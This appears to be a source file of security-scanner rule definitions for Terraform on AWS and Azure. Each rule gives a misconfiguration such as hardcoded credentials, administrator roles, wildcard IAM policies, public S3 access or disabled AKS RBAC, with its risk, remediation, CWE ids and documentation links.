  deferred("terraform-aws-dms", { "id": "aws-ecs-task-definition-hardcoded-secret", "title": "Hardcoded secret in ECS task definition container environment", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_ecs_task_definition"], "description": "A container's `environment` in `container_definitions` holds a literal credential: a variable named like a password, secret, token or key, or an AWS access key or private key as a value. Task definitions are readable by anyone with `ecs:DescribeTaskDefinition`, every revision keeps the value forever, and it is also in the repository and the Terraform state.", "remediation": "Move the value to AWS Secrets Manager or SSM Parameter Store and reference it from the container's `secrets` list (`valueFrom`), which ECS injects at start; use the task role instead of access keys.", "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "ecs", "environment-variables"], "references": ["https://docs.aws.amazon.com/AmazonECS/latest/developerguide/specifying-sensitive-data.html"] }),
  deferred("terraform-aws-efs", { "id": "aws-eks-node-group-admin-role", "title": "EKS node group runs with an administrator role", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_eks_node_group"], "description": "The node role of the group is an administrator of the account. Every pod scheduled on these nodes can read the node's credentials from the instance metadata service unless IMDS is locked down, so one compromised container (or anyone allowed to create pods) becomes an account administrator.", "remediation": "Give the node role only `AmazonEKSWorkerNodePolicy`, `AmazonEC2ContainerRegistryReadOnly` and the CNI policy; grant workloads their own permissions through IRSA or EKS Pod Identity, and require IMDSv2 with a hop limit of 1.", "precision": "high", "cwe": ["CWE-250", "CWE-269"], "tags": ["eks", "iam", "iam-wildcard", "least-privilege"], "references": ["https://docs.aws.amazon.com/eks/latest/userguide/create-node-role.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-admin-managed-policy-attached", "title": "AWS-managed AdministratorAccess, PowerUserAccess or IAMFullAccess policy attached", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_role_policy_attachment", "aws_iam_user_policy_attachment", "aws_iam_group_policy_attachment", "aws_iam_policy_attachment", "aws_iam_role", "aws_iam_user", "aws_iam_group"], "description": "The AWS-managed `AdministratorAccess`, `PowerUserAccess` or `IAMFullAccess` policy is attached to a role, user or group. Each makes its holder an administrator in practice (IAMFullAccess can attach any policy to itself), so any workload, pipeline or person using the identity can take over the account.", "remediation": "Attach a customer-managed policy with the actions and resources the identity needs. Keep administrator access for a few break-glass roles that require MFA, and grant it through IAM Identity Center permission sets rather than Terraform-managed attachments.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS AWS Foundations 3.0": ["1.16"] }, "tags": ["iam", "least-privilege", "full-admin", "iam-wildcard"], "references": ["https://docs.aws.amazon.com/aws-managed-policy/latest/reference/AdministratorAccess.html", "https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_job-functions.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-password-policy-reuse-allowed", "title": "IAM account password policy does not prevent password reuse", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_account_password_policy"], "description": "The account password policy does not remember the last 24 passwords. Users then rotate back to an old password, and a password leaked once stays valid after it was supposedly changed.", "remediation": "Set `password_reuse_prevention = 24`.", "precision": "very-high", "cwe": ["CWE-521"], "frameworks": { "CIS AWS Foundations 3.0": ["1.9"] }, "tags": ["iam", "password-policy", "authn"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-password-policy-short-minimum-length", "title": "IAM account password policy allows passwords shorter than 14 characters", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_account_password_policy"], "description": "The account password policy accepts console passwords shorter than 14 characters (AWS's default minimum is 8). Short passwords fall to guessing and credential-stuffing far sooner, and console access of an IAM user is often all an attacker needs.", "remediation": "Set `minimum_password_length = 14` or more, and require MFA for console users (or move them to IAM Identity Center).", "precision": "very-high", "cwe": ["CWE-521"], "frameworks": { "CIS AWS Foundations 3.0": ["1.8"] }, "tags": ["iam", "password-policy", "authn"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_account_password_policy"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-policy-admin-access", "title": "IAM policy grants every action on every resource", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy"], "description": 'A statement allows `Action: "*"` on `Resource: "*"`: whoever holds the policy is an administrator of the account, able to create users, read every secret and delete every resource.', "remediation": "Grant only the actions and resources the workload needs; start from the access actually used (IAM Access Analyzer can generate a policy from CloudTrail activity).", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS AWS Foundations 3.0": ["1.16"] }, "tags": ["iam", "least-privilege", "iam-wildcard"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-policy-allow-not-action", "title": "IAM policy uses NotAction with Allow", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy", "aws_iam_role"], "description": "An `Allow` statement with `NotAction` grants every action except the listed ones, including actions of services AWS launches later. It is almost always far broader than intended: `NotAction: iam:*` on `*` is still administrator access to everything else.", "remediation": "Allow the actions the workload needs with `Action`. Keep `NotAction` for `Deny` statements (deny everything except…), where it narrows instead of widening.", "precision": "very-high", "cwe": ["CWE-269"], "tags": ["iam", "least-privilege", "iam-wildcard"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notaction.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-policy-allow-not-resource", "title": "IAM policy uses NotResource with Allow", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy", "aws_iam_role"], "description": "An `Allow` statement with `NotResource` grants its actions on every resource except the listed ones: every other bucket, table or key in the account, and every one created later. The exception list rarely stays in step with what should really be reachable.", "remediation": "Name the resources the statement applies to with `Resource`. Use `NotResource` only in `Deny` statements.", "precision": "very-high", "cwe": ["CWE-269"], "tags": ["iam", "least-privilege", "iam-wildcard"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notresource.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-policy-sensitive-action-any-resource", "title": 'IAM policy allows iam:PassRole, sts:AssumeRole or IAM write actions on Resource "*"', "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy", "aws_iam_role"], "description": "A statement allows a privilege-escalation action (`iam:PassRole`, `sts:AssumeRole`, `iam:AttachRolePolicy`, `iam:CreateAccessKey`…) on every resource. With `iam:PassRole` on `*` a workload can hand any role, an administrator role included, to a service it controls; with `sts:AssumeRole` on `*` it can become any role that trusts its account; the IAM write actions let it grant itself anything.", "remediation": "Name the role ARNs that may be passed or assumed (and add an `iam:PassedToService` condition to `iam:PassRole`); scope IAM write actions to the users, groups or roles the workload manages.", "precision": "high", "cwe": ["CWE-269"], "tags": ["iam", "least-privilege", "privilege-escalation", "sensitive-actions"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_passrole.html", "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-policy-service-wildcard", "title": "IAM policy allows service-wide wildcard actions (s3:*, ec2:*) on every resource", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy", "aws_iam_role"], "description": 'A statement allows every action of a service (`s3:*`, `ec2:*`, `iam:*`…) on `Resource: "*"`. Whoever holds the policy can read and delete every bucket, terminate every instance or rewrite IAM in the account, well beyond what one workload needs; a leaked credential becomes an account-wide incident.', "remediation": "List the actions the workload calls (`s3:GetObject`, `s3:PutObject`…) and the ARNs it works on. IAM Access Analyzer can generate a least-privilege policy from the role's CloudTrail activity.", "precision": "very-high", "cwe": ["CWE-269"], "tags": ["iam", "least-privilege", "iam-wildcard"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_action.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-role-cross-account-trust-without-external-id", "title": "IAM role trusts another AWS account without an ExternalId condition", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_role"], "description": "The trust policy lets principals of an account named by number assume the role, with no `sts:ExternalId`, organisation or MFA condition. When that account is a vendor's, any of the vendor's customers can make the vendor assume this role for them (the confused deputy problem).", "remediation": "Require the external id the third party gave you (`StringEquals` on `sts:ExternalId`); for accounts of your own organisation, add an `aws:PrincipalOrgID` condition or require MFA.", "precision": "medium", "cwe": ["CWE-441"], "tags": ["iam", "trust-policy", "cross-account", "confused-deputy"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-user_externalid.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-role-github-oidc-any-repository", "title": "IAM role trusts GitHub Actions OIDC tokens from any repository", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_role"], "description": "The role's trust policy accepts `sts:AssumeRoleWithWebIdentity` from GitHub's OIDC provider (`token.actions.githubusercontent.com`) without a `sub` condition, or with one whose owner is a wildcard. Every GitHub Actions workflow of every repository on GitHub can obtain such a token, so anyone with a GitHub account can assume the role from their own workflow.", "remediation": "Add a `StringEquals` (or narrow `StringLike`) condition on `token.actions.githubusercontent.com:sub` naming your repository and the branch or environment that deploys, e.g. `repo:acme/app:ref:refs/heads/main` or `repo:acme/app:environment:production`, and keep `token.actions.githubusercontent.com:aud` = `sts.amazonaws.com`.", "precision": "very-high", "cwe": ["CWE-284", "CWE-863"], "tags": ["iam", "oidc", "github-actions", "public-access-policy"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-idp_oidc.html#idp_oidc_Create_GitHub"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-role-github-oidc-wildcard-subject", "title": "IAM role trusts GitHub Actions OIDC tokens of any branch or any repository of an owner", "severity": "medium", "category": "iam", "platforms": ["terraform", "github-actions"], "resourceTypes": ["aws_iam_role"], "description": "The role's trust policy accepts GitHub OIDC tokens whose `sub` matches a wildcard such as `repo:acme/*`, `repo:acme/app:*` or `repo:acme/app:ref:refs/heads/*`. Anyone who can push a branch (or create a repository in the organisation) can then run a workflow that assumes the role, without the review and branch protection that guard the deploying branch.", "remediation": "Name the branch or, better, a protected GitHub environment in the condition: `repo:acme/app:ref:refs/heads/main` or `repo:acme/app:environment:production` with `StringEquals`. Give pull-request workflows a separate read-only role.", "precision": "high", "cwe": ["CWE-284", "CWE-863"], "tags": ["iam", "oidc", "github-actions", "public-access-policy"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect#example-subject-claims"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-role-trust-any-principal", "title": 'IAM role trust policy allows any principal (Principal "*") to assume the role', "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_role"], "description": 'The role\'s trust policy (`assume_role_policy`) allows `sts:AssumeRole` to `Principal: "*"` or `AWS: "*"` with no condition naming an account, organisation or source. Any identity in any AWS account can then assume the role and act with its permissions.', "remediation": "Name the accounts, roles or services that may assume the role in `Principal`, or add a condition such as `aws:PrincipalOrgID` or `aws:PrincipalArn`. For third parties, name their account and require `sts:ExternalId`.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["iam", "trust-policy", "public-access-policy", "assume-role"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_principal.html#principal-anonymous", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_terms-and-concepts.html#term_trust-policy"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-user-access-key", "title": "Long-lived IAM user access key created in Terraform", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_access_key"], "description": "The configuration creates an access key for an IAM user: a credential that never expires on its own, ends up in CI variables and laptops, and is the most common way AWS accounts are breached. Terraform also keeps the secret in its state, in clear text unless a PGP key encrypts it.", "remediation": "Give workloads roles instead: instance profiles, IRSA or EKS Pod Identity, GitHub OIDC federation, IAM Roles Anywhere. If a key is unavoidable, set `pgp_key`, rotate it at least every 90 days and alert on its use.", "precision": "very-high", "cwe": ["CWE-798"], "frameworks": { "CIS AWS Foundations 3.0": ["1.14"] }, "tags": ["iam", "iam-user", "access-key", "long-lived-credentials"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_access_key"] }),
  deferred("terraform-aws-iam", { "id": "aws-iam-user-direct-policy", "title": "IAM policy attached directly to a user", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_user_policy", "aws_iam_user_policy_attachment", "aws_iam_policy_attachment"], "description": "The policy is attached to an IAM user instead of a group or role. Permissions granted user by user drift apart, are forgotten when people change teams, and are hard to review; IAM users themselves mean long-lived credentials.", "remediation": "Attach policies to IAM groups and add users to the groups, or better, replace IAM users with IAM Identity Center users and roles that workloads assume.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS AWS Foundations 3.0": ["1.15"] }, "tags": ["iam", "iam-user", "user-policy"], "references": ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_groups_manage_attach-policy.html"] }),
  deferred("terraform-aws-instance", { "id": "aws-kms-key-policy-any-principal", "title": 'KMS key policy allows any principal (Principal "*")', "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_kms_key", "aws_kms_key_policy"], "description": 'The key policy allows `Principal: "*"` with no condition naming an account, organisation or calling service. Anyone in any AWS account can use the key as the statement allows: decrypt what it protects, encrypt with it, or manage it.', "remediation": "Name the account root (`arn:aws:iam::<account>:root`) and the roles that use the key, or narrow the statement with `kms:CallerAccount` and `kms:ViaService` (or `aws:PrincipalOrgID`).", "precision": "high", "cwe": ["CWE-732"], "tags": ["kms", "key-policy", "public-access-policy"], "references": ["https://docs.aws.amazon.com/kms/latest/developerguide/key-policies.html", "https://docs.aws.amazon.com/kms/latest/developerguide/conditions-kms.html#conditions-kms-caller-account"] }),
  deferred("terraform-aws-lambda", { "id": "aws-lambda-environment-hardcoded-secret", "title": "Hardcoded secret (access key, password, token) in Lambda environment variables", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_lambda_function"], "description": "An environment variable of the function holds a literal credential: its name says password, secret, token or key, or its value is an AWS access key or a private key. Environment variables are shown in the console and returned by `GetFunctionConfiguration` to anyone with read access, and the value sits in the repository and the Terraform state.", "remediation": "Use the function's execution role instead of access keys. Keep other secrets in AWS Secrets Manager or SSM Parameter Store and read them at run time (the AWS Parameters and Secrets Lambda extension caches them); put only the secret's name or ARN in the environment.", "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "lambda", "environment-variables"], "references": ["https://docs.aws.amazon.com/lambda/latest/dg/configuration-envvars.html#configuration-envvars-encryption", "https://docs.aws.amazon.com/secretsmanager/latest/userguide/retrieving-secrets_lambda.html"] }),
  deferred("terraform-aws-lambda", { "id": "aws-lambda-function-admin-role", "title": "Lambda function runs with an administrator role", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_lambda_function"], "description": "The function's execution role is an administrator of the account (AdministratorAccess, IAMFullAccess, or a policy allowing `*` or `iam:*` on every resource). Any flaw in the function's code or dependencies, such as an injection, a server-side request forgery or a poisoned package, then hands the attacker the whole account, not just what the function needs.", "remediation": "Give each function its own role with only the actions and resources it uses (for example `dynamodb:PutItem` on one table, plus `AWSLambdaBasicExecutionRole` for logs).", "precision": "high", "cwe": ["CWE-250", "CWE-269"], "tags": ["lambda", "iam", "iam-wildcard", "least-privilege"], "references": ["https://docs.aws.amazon.com/lambda/latest/dg/lambda-intro-execution-role.html"] }),
  deferred("terraform-aws-lambda", { "id": "aws-lambda-function-url-unauthenticated", "title": "Lambda function URL is publicly accessible without authentication (authorization_type NONE)", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_lambda_function_url"], "description": 'The function URL uses `authorization_type = "NONE"`: anyone on the internet who learns the URL can invoke the function, as often as they like, with whatever input they choose. Unless the function authenticates callers itself, its data and its execution role are exposed, and its cost is in the caller\'s hands.', "remediation": 'Use `authorization_type = "AWS_IAM"` and sign requests (CloudFront with origin access control can sign for browsers), or put the function behind API Gateway with an authorizer; if it must be public, verify a signature or token in the handler and set reserved concurrency.', "precision": "medium", "cwe": ["CWE-306"], "tags": ["lambda", "function-url", "public-access-policy", "authentication"], "references": ["https://docs.aws.amazon.com/lambda/latest/dg/urls-auth.html"] }),
  deferred("terraform-aws-lambda", { "id": "aws-lambda-permission-any-principal", "title": 'Lambda permission grants access to any principal (principal "*")', "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_lambda_permission", "aws_lambda_layer_version_permission"], "description": "The function's resource policy (or the layer's) grants its action to `principal = \"*\"` with no `source_arn`, `source_account` or organisation limit. Any AWS account, and for function URLs anyone on the internet, can invoke the function or download the layer's code.", "remediation": "Set `principal` to the service or account that calls the function (`events.amazonaws.com`, `s3.amazonaws.com`, an account id) and add `source_arn` and `source_account`; share layers with named accounts or `organization_id`.", "precision": "high", "cwe": ["CWE-732"], "tags": ["lambda", "resource-policy", "public-access-policy"], "references": ["https://docs.aws.amazon.com/lambda/latest/dg/access-control-resource-based.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_permission"] }),
  deferred("terraform-aws-lb", { "id": "aws-neptune-iam-authentication-disabled", "title": "Neptune cluster does not use IAM database authentication", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_neptune_cluster"], "description": "Without IAM database authentication, clients reach the graph database with network access alone: there is no per-principal authentication, no short-lived credentials and no CloudTrail record of who connected.", "remediation": "Set `iam_database_authentication_enabled = true` and grant clients `neptune-db:connect` on the cluster through IAM policies.", "precision": "high", "cwe": ["CWE-287"], "tags": ["neptune", "authn-config", "authentication"], "references": ["https://docs.aws.amazon.com/neptune/latest/userguide/iam-auth.html"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-domain-policy-public", "title": "OpenSearch / Elasticsearch domain access policy allows any principal (public)", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain", "aws_opensearch_domain_policy", "aws_elasticsearch_domain_policy"], "description": 'The domain\'s access policy allows `Principal: "*"` without any condition, and the domain has a public endpoint (it is not in a VPC). Anyone on the internet can then send unsigned requests to read, write or delete its indices.', "remediation": "Grant access to specific IAM roles or users, or restrict the statement with an `aws:SourceIp` condition; better, move the domain into a VPC and enable fine-grained access control.", "precision": "high", "cwe": ["CWE-284", "CWE-732"], "tags": ["opensearch", "elasticsearch", "public-access", "resource-policy"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/developerguide/ac.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain_policy"] }),
  deferred("terraform-provider", { "id": "aws-provider-hardcoded-credentials", "title": "Hardcoded AWS access key and secret key in the provider block", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["provider"], "description": "The `aws` provider block sets `access_key`, `secret_key` or `token` to literal values. Anyone who can read the repository, or any of its clones, forks and CI logs, gets the credentials and with them the account access of the user they belong to.", "remediation": "Delete the literals and deactivate the key in IAM now. Let the provider find credentials in the environment: a role assumed through OIDC in CI, an instance profile, AWS SSO profiles on laptops (`profile`, `assume_role`).", "precision": "very-high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "access-key", "provider"], "references": ["https://registry.terraform.io/providers/hashicorp/aws/latest/docs#authentication-and-configuration", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-account-public-access-block-disabled", "title": "S3 account-level public access block leaves settings off", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_s3_account_public_access_block"], "description": "The account-wide S3 public access block declares one or more of `block_public_acls`, `ignore_public_acls`, `block_public_policy` and `restrict_public_buckets` as false (or leaves them at their false default). The account's safety net against a bucket made publicly accessible by mistake is then partly switched off, for every bucket at once.", "remediation": "Set all four settings to `true`; grant the few deliberately public buckets access through CloudFront rather than public policies or ACLs.", "precision": "very-high", "cwe": ["CWE-732"], "frameworks": { "CIS AWS Foundations 3.0": ["2.1.4"] }, "tags": ["s3", "public-access-block", "account"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/configuring-block-public-access-account.html"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-bucket-policy-public-principal", "title": "S3 bucket policy allows any principal", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_s3_bucket_policy", "aws_s3_bucket"], "description": 'A bucket policy statement allows `Principal: "*"` (or `AWS: "*"`) with no condition that limits it to a network, an organisation or an account. Anyone on the internet, signed in to any AWS account or not, gets the statement\'s actions on the bucket, and the bucket has no public access block that would stop it.', "remediation": "Name the principals that need access (accounts, roles, the CloudFront distribution through `aws:SourceArn`), or add a condition such as `aws:PrincipalOrgID` or `aws:SourceVpce`. Turn on `block_public_policy` and `restrict_public_buckets` in the bucket's public access block.", "precision": "high", "cwe": ["CWE-732"], "tags": ["s3", "public-access-policy"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html#access-control-block-public-access-policy-status"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-bucket-public-access-not-blocked", "title": "S3 bucket without a public access block that blocks all four settings", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_s3_bucket", "aws_s3_bucket_public_access_block"], "description": "No `aws_s3_bucket_public_access_block` for the bucket (and no account-wide `aws_s3_account_public_access_block`) turns on all four of `block_public_acls`, `ignore_public_acls`, `block_public_policy` and `restrict_public_buckets`. Then one public ACL or bucket policy statement, written by mistake or by a compromised pipeline, is enough to publish the bucket's objects to the internet.", "remediation": "Add an `aws_s3_bucket_public_access_block` for the bucket with the four settings set to `true`, or one `aws_s3_account_public_access_block` for the account. Serve public content through CloudFront with origin access control instead of a public bucket.", "precision": "high", "cwe": ["CWE-732"], "frameworks": { "CIS AWS Foundations 3.0": ["2.1.4"] }, "tags": ["s3", "public-access-block"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-bucket-public-acl", "title": "S3 bucket or object has a public ACL (public-read, public-read-write, AllUsers)", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_s3_bucket", "aws_s3_bucket_acl", "aws_s3_object", "aws_s3_bucket_object"], "description": "The ACL is `public-read`, `public-read-write` or `authenticated-read`, or grants the `AllUsers` or `AuthenticatedUsers` group: the data is publicly accessible to anyone on the internet (or to every AWS account), and `public-read-write` lets anyone overwrite or plant objects.", "remediation": 'Use the `private` ACL (or disable ACLs with `object_ownership = "BucketOwnerEnforced"`), turn on the bucket\'s public access block, and serve public content through CloudFront with origin access control.', "precision": "very-high", "cwe": ["CWE-732"], "tags": ["s3", "public-acl", "public-access-policy"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html#canned-acl", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/about-object-ownership.html"] }),
  deferred("terraform-aws-s3", { "id": "aws-secretsmanager-secret-hardcoded-value", "title": "Hardcoded secret value in a Secrets Manager secret version", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_secretsmanager_secret_version"], "description": "`secret_string` is a literal in the configuration. Keeping the value in Secrets Manager protects nothing when the same value is committed to the repository next to it and stored in the Terraform state.", "remediation": "Generate the value (`random_password`, or `manage_master_user_password` for databases), or create the secret empty in Terraform and set its value out of band (with `lifecycle { ignore_changes = [secret_string] }`); turn on rotation.", "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "secrets-manager"], "references": ["https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/secretsmanager_secret_version", "https://docs.aws.amazon.com/secretsmanager/latest/userguide/rotating-secrets.html"] }),
  deferred("terraform-aws-security", { "id": "aws-ssm-parameter-secret-not-secure-string", "title": "SSM parameter named like a password or secret is stored as plain String", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_ssm_parameter"], "description": "A parameter whose name says it holds a password, secret, token or key has type `String` (or `StringList`). Its value is stored and returned unencrypted, readable by anyone with `ssm:GetParameter`, without the KMS key permission a `SecureString` would also require.", "remediation": 'Use `type = "SecureString"` with a customer-managed `key_id`, or keep the secret in AWS Secrets Manager.', "precision": "medium", "cwe": ["CWE-312"], "tags": ["secrets", "ssm", "plaintext-secret"], "references": ["https://docs.aws.amazon.com/systems-manager/latest/userguide/sysman-paramstore-securestring.html"] }),
  deferred("terraform-variable", { "id": "aws-terraform-variable-hardcoded-secret", "title": "Hardcoded password or secret as a Terraform variable default", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["variable"], "description": "A variable whose name says it holds a password, secret, token or key has a literal default. The credential is then in the repository, in every clone and fork and in its history, and every deployment that forgets to override it uses the same known value.", "remediation": "Remove the default and mark the variable `sensitive = true`; pass the value from a secret store at apply time (`TF_VAR_…` from the CI secret store), or let the resource generate and keep it (`manage_master_user_password`, `random_password` with AWS Secrets Manager).", "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "terraform-variable"], "references": ["https://developer.hashicorp.com/terraform/language/values/variables#suppressing-values-in-cli-output", "https://developer.hashicorp.com/terraform/tutorials/configuration-language/sensitive-variables"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-aks-dashboard-enabled", "title": "AKS Kubernetes dashboard add-on enabled", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_kubernetes_cluster"], "description": "The Kubernetes dashboard runs inside the cluster with a service account that often holds broad rights; an exposed or proxied dashboard has been a common way into clusters. The add-on is deprecated on AKS.", "remediation": "Remove the `kube_dashboard` add-on (or set `enabled = false`) and use the Azure portal's Kubernetes resource view or `kubectl` with Azure AD credentials.", "precision": "very-high", "cwe": ["CWE-1188"], "tags": ["azure", "aks", "kubernetes", "dashboard"], "references": ["https://learn.microsoft.com/azure/aks/kubernetes-portal", "https://registry.terraform.io/providers/hashicorp/azurerm/2.99.0/docs/resources/kubernetes_cluster#kube_dashboard"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-aks-rbac-disabled", "title": "AKS cluster with Kubernetes RBAC disabled", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_kubernetes_cluster"], "description": "Without Kubernetes role-based access control every authenticated user and service account is authorised for everything in the cluster: any compromised pod token can read all secrets and take over the nodes. RBAC cannot be turned on later without recreating the cluster.", "remediation": "Set `role_based_access_control_enabled = true` (the default) and grant access through Roles and RoleBindings, ideally with Azure AD integration (`azure_active_directory_role_based_access_control`).", "precision": "very-high", "cwe": ["CWE-862"], "tags": ["azure", "aks", "kubernetes", "rbac", "authorization"], "references": ["https://learn.microsoft.com/azure/aks/concepts-identity", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#role_based_access_control_enabled"] }),
  deferred("terraform-azurerm-app", { "id": "azure-app-service-authentication-disabled", "title": "App Service authentication explicitly disabled", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot", "azurerm_linux_function_app", "azurerm_windows_function_app"], "description": "The app declares App Service Authentication but turns it off, so requests reach the application without the platform checking who sends them. Unless the application authenticates users itself, its pages and APIs are open to anyone who can reach it.", "remediation": "Enable `auth_settings_v2 { auth_enabled = true }` (or `auth_settings { enabled = true }`) with an identity provider such as Microsoft Entra ID, or remove the block if the app authenticates users itself.", "precision": "medium", "cwe": ["CWE-306"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["9.1"] }, "tags": ["azure", "app-service", "authentication"], "references": ["https://learn.microsoft.com/azure/app-service/overview-authentication-authorization", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#auth_settings_v2"] }),
